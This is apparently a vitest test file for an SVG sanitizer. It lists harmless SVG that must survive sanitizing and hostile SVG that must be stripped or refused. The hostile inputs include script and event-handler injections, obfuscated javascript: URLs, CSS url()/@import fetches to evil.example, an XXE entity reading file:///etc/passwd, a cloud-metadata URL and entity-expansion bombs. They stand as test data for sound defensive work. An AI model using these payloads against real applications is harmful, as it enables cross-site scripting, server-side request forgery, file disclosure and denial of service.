import { SaxesParser } from 'saxes';
import { describe, expect, it } from 'vitest';
import { sanitizeSVG } from './sanitize-svg.ts';

const OPEN =
  '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" viewBox="0 0 9 9">';

function sanitized(inner: string, head = ''): string {
  return sanitizeSVG(Buffer.from(`${head}${OPEN}${inner}</svg>`)).toString();
}

/** Fails where a browser would not read it as XML. */
function checkWellFormed(svg: string): void {
  const parser = new SaxesParser({ xmlns: true });
  parser.on('error', (error) => {
    throw error;
  });
  parser.write(svg).close();
}

describe('what stays', () => {
  it.each([
    '<path d="M0 0h9v9z" fill="red" stroke-width="2"></path>',
    '<g transform="scale(2)" style="fill:#f00;opacity:.5"><circle r="3"></circle></g>',
    '<defs><linearGradient id="a"><stop offset="0" stop-color="#fff"></stop></linearGradient></defs><rect fill="url(#a)"></rect>',
    '<use href="#a"></use><use xlink:href="#b"></use>',
    '<image href="data:image/png;base64,iVBORw0KGgo="></image>',
    '<text x="1">a &lt; b &amp; c</text><title>A &quot;title&quot;</title>',
    '<style>.a{fill:url(#g);font-family:"A B"}</style>',
    '<style>@font-face{font-family:F;src:url("data:font/woff2;base64,d09GMg==")}</style>',
    '<animate attributeName="fill" values="red;blue" dur="1s"></animate>',
    '<filter id="f"><feGaussianBlur stdDeviation="2"></feGaussianBlur></filter>',
    '<path aria-label="x" data-name="y" role="img" xml:space="preserve"></path>',
  ])('%s', (inner) => {
    const written = sanitized(inner);
    expect(written.replaceAll('&quot;', '"')).toContain(inner.replaceAll('&quot;', '"'));
    checkWellFormed(written);
  });

  it('what is in a link, without the link', () => {
    const written = sanitized('<a href="https://evil.example"><path d="M1 1"/></a>');
    expect(written).toContain('<path d="M1 1"></path>');
    expect(written).not.toMatch(/<a|evil/);
  });

  it('the drawing of an editor with entities for its namespaces', () => {
    const doctype =
      '<!DOCTYPE svg [<!ENTITY ns_svg "http://www.w3.org/2000/svg"><!ENTITY name "Ada">]>';
    const written = sanitizeSVG(
      Buffer.from(`${doctype}<svg xmlns="&ns_svg;"><text>&name;</text></svg>`),
    ).toString();
    expect(written).toContain('<text>Ada</text>');
    expect(written).not.toContain('DOCTYPE');
  });

  it.each([
    '<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd">',
    '<!DOCTYPE svg [<!ENTITY name "Ada">]>',
  ])('what every document knows, behind %s', (doctype) => {
    const written = sanitized('<text>a &lt; b &amp; &quot;c&quot;</text>', doctype);
    expect(written).toContain('<text>a &lt; b &amp; &quot;c&quot;</text>');
    expect(() => sanitized('<text>&constructor;</text>', doctype)).toThrow('undefined entity');
  });

  it.each([
    '@import url("https://evil.example/font.css");',
    "@import 'https://evil.example/font.css';",
    'a{behavior:url(#x)}',
    'a{-moz-binding:url(#x)}',
    "a{fill:image-set('https://evil.example' 1x)}",
  ])('the rules behind %s', (rule) => {
    const [, sheet = ''] = /<style>(.*)<\/style>/.exec(
      sanitized(`<style>${rule} .b{scroll-behavior:smooth}</style>`),
    ) ?? [''];
    expect(sheet).toContain('.b{scroll-behavior:smooth}');
    // What is open swallows all that comes behind it.
    expect(sheet.split('(')).toHaveLength(sheet.split(')').length);
  });

  it('a drawing in XML 1.1, without the characters that XML 1.0 cannot have', () => {
    const written = sanitized('<text id="a&#x1;">b&#x2;</text>', '<?xml version="1.1"?>');
    expect(written).toContain('<text id="a">b</text>');
    checkWellFormed(written);
  });

  it('a drawing in another encoding', () => {
    const text = `<?xml version="1.0" encoding="ISO-8859-1"?>${OPEN}<text>\xe4</text></svg>`;
    expect(sanitizeSVG(Buffer.from(text, 'latin1')).toString()).toContain('<text>ä</text>');
    const wide = Buffer.from(`\ufeff${OPEN}<text>ä</text></svg>`, 'utf16le');
    expect(sanitizeSVG(wide).toString()).toContain('<text>ä</text>');
  });

  it('a drawing with a prefix, without it', () => {
    const svg =
      '<s:svg xmlns:s="http://www.w3.org/2000/svg"><s:path d="M0 0"/><s:script>alert(1)</s:script></s:svg>';
    const written = sanitizeSVG(Buffer.from(svg)).toString();
    expect(written).toContain('<path d="M0 0"></path>');
    expect(written).not.toContain('alert');
  });
});

describe('what goes', () => {
  it.each([
    '<script>evil()</script>',
    '<script href="https://evil.example/x.js"/>',
    '<script><![CDATA[evil()]]></script>',
    '<g><script>evil()</script></g>',
    '<x:script xmlns:x="http://www.w3.org/2000/svg">evil()</x:script>',
    '<SCRIPT>evil()</SCRIPT>',
    '<path onclick="evil()"/>',
    '<path ONLOAD="evil()"/>',
    '<path xmlns:x="urn:x" x:onload="evil()"/>',
    '<foreignObject><body xmlns="http://www.w3.org/1999/xhtml"><img src="evil"/></body></foreignObject>',
    '<iframe xmlns="http://www.w3.org/1999/xhtml" src="https://evil.example"/>',
    '<h:script xmlns:h="http://www.w3.org/1999/xhtml">evil()</h:script>',
    '<handler>evil()</handler>',
    '<use href="https://evil.example/x.svg#a"/>',
    '<use xlink:href="//evil.example/x.svg#a"/>',
    '<use href="data:image/svg+xml;base64,ZXZpbA=="/>',
    '<use href="#a https://evil.example"/>',
    '<image href="http://169.254.169.254/evil"/>',
    '<image xlink:href="file:///evil"/>',
    '<image href="data:text/html,evil"/>',
    '<image href="javascript:evil()"/>',
    '<image href="java&#10;script:evil()"/>',
    '<a xlink:href="javascript:evil()"><text>x</text></a>',
    '<feImage href="https://evil.example"/>',
    '<set attributeName="href" to="javascript:evil()"/>',
    '<animate attributeName="xlink:href" values="javascript:evil()"/>',
    '<set attributeName="onmouseover" to="evil()"/>',
    '<set attributeName="style" to="fill:url(https://evil.example)"/>',
    '<?xml-stylesheet href="https://evil.example/x.css"?>',
    '<!-- evil -->',
    '<metadata>evil</metadata>',
    '<discard xmlns:e="evil"/>',
  ])('%s', (inner) => {
    const written = sanitized(inner);
    expect(written.toLowerCase()).not.toMatch(/evil|script|<!|<\?xml-/);
    checkWellFormed(written);
  });

  it.each([
    ['<path fill="url(https://evil.example)"/>'],
    ['<path style="fill:url( \'https://evil.example\' )"/>'],
    ['<path style="fill:URL(https://evil.example)"/>'],
    ['<path style="fill:u\\72l(https://evil.example)"/>'],
    ['<path style="fill:url(/**/https://evil.example)"/>'],
    ['<path style="fill:ur/**/l(https://evil.example)"/>'],
    ['<path style="font-family:\'url(#x\';fill:url(https://evil.example)"/>'],
    ['<path style="fill:url(#a) url(https://evil.example)"/>'],
    ['<path filter="url(https://evil.example#f)"/>'],
    ['<path style="fill:url(data:image/svg+xml;base64,ZXZpbA==)"/>'],
    ['<path style="background:image-set(\'https://evil.example\' 1x)"/>'],
    ['<path style="background:-webkit-image-set(\'https://evil.example\' 1x)"/>'],
    ['<path style="background:src(\'https://evil.example\')"/>'],
    ['<style>@import "https://evil.example";</style>'],
    ['<style>@\\69mport "https://evil.example";</style>'],
    ['<style>@import url(https://evil.example);</style>'],
    ['<style><![CDATA[a{fill:url(https://evil.example)}]]></style>'],
    ['<style>a{fill:url(https:<!-- -->//evil.example)}</style>'],
    ['<style>a{fill:u<!-- -->rl(https://evil.example)}</style>'],
    ['<style>a{fill:u<g/>rl(https://evil.example)}</style>'],
    ['<style><style>x</style>@import "https://evil.example";</style>'],
    ['<animate attributeName="fill" to="url(https://evil.example)"/>'],
    ['<svg><style>b{cursor:url(https://evil.example),auto}</style></svg>'],
  ])('nothing is fetched by %s', (inner) => {
    const written = sanitized(inner);
    // The words may stay; what would fetch them may not.
    expect(written).not.toMatch(/url\s*\((?!#)|@import|image-set\(|src\(|\\/i);
    checkWellFormed(written);
  });

  it.each([
    ['<style>&lt;/style&gt;&lt;script&gt;evil()&lt;/script&gt;</style>'],
    ['<text>&lt;script&gt;evil()&lt;/script&gt;</text>'],
    ['<path id="&quot;&gt;&lt;script&gt;evil()&lt;/script&gt;"/>'],
    ['<title><![CDATA[<script>evil()</script>]]></title>'],
  ])('text does not become an element in %s', (inner) => {
    const written = sanitized(inner);
    expect(written).not.toContain('<script');
    checkWellFormed(written);
  });

  it('entities of files', () => {
    for (const entity of [
      '<!ENTITY e SYSTEM "file:///etc/passwd">',
      '<!ENTITY % p SYSTEM "https://evil.example"> %p;',
      '<!ENTITY % e "evil">',
    ]) {
      const head = `<!DOCTYPE svg [${entity}]>`;
      expect(() => sanitized('<text>&e;</text>', head)).toThrow(/undefined entity/);
    }
  });

  it.each([
    ['<!ENTITY e "<script>evil()</script>">', '&e;'],
    ['<!ENTITY e "&#60;script>evil()&#60;/script>">', '&e;'],
    ['<!ENTITY x "<scr"><!ENTITY e "&x;ipt>evil()</script>">', '&e;'],
    ['<!ENTITY e "evil() &#34; onload=&#34;evil()">', '<path id="a" fill="&e;"/>'],
    ['<!ENTITY e "x\' onload=\'evil()">', "<path id='&e;'/>"],
  ])('what is hidden in %s', (entity, inner) => {
    const written = sanitized(inner, `<!DOCTYPE svg [${entity}]>`);
    checkWellFormed(written);
    expect(written).not.toMatch(/<script|"\sonload=/);
  });

  it('entities that multiply', () => {
    const head = `<!DOCTYPE svg [<!ENTITY e "${'x'.repeat(250)}">]>`;
    expect(() => sanitized(`<text>${'&e;'.repeat(10_000)}</text>`, head)).toThrow('entities');
    expect(() => sanitized(`<style>${'&e;'.repeat(10_000)}</style>`, head)).toThrow('entities');
  });
});

it.each([
  ['<svg xmlns="http://www.w3.org/2000/svg"><path></svg>'],
  ['<svg xmlns="http://www.w3.org/2000/svg"><path a="1" a="2"/></svg>'],
  ['<svg xmlns="http://www.w3.org/2000/svg">'],
  ['<html xmlns="http://www.w3.org/1999/xhtml"><svg/></html>'],
  ['<svg xmlns="http://www.w3.org/1999/xhtml"/>'],
  ['<svg xmlns="http://www.w3.org/2000/svg"/><script/>'],
  ['no XML at all'],
])('refuses %s', (svg) => {
  expect(() => sanitizeSVG(Buffer.from(svg))).toThrow();
});

it('refuses what is nested too deeply', () => {
  expect(() => sanitized('<g>'.repeat(300) + '</g>'.repeat(300))).toThrow('deeply');
});

it('adds the namespace where it was forgotten', () => {
  const written = sanitizeSVG(Buffer.from('<svg><path d="M0 0"/></svg>')).toString();
  expect(written).toContain('<svg xmlns="http://www.w3.org/2000/svg"');
  expect(written).toContain('<path');
});
